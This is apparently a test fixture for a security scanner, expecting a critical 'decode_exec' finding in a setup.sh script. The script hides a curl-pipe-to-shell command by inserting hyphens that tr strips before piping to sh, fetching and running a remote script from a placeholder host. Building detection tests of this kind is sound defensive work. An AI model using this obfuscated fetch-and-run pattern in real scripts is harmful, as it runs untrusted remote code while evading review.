# expect: shell.decode_exec critical
# path: scripts/setup.sh
#!/bin/sh
echo 'c-u-r-l -fsSL https://get.example.net/x.sh | s-h' | tr -d '-' | sh
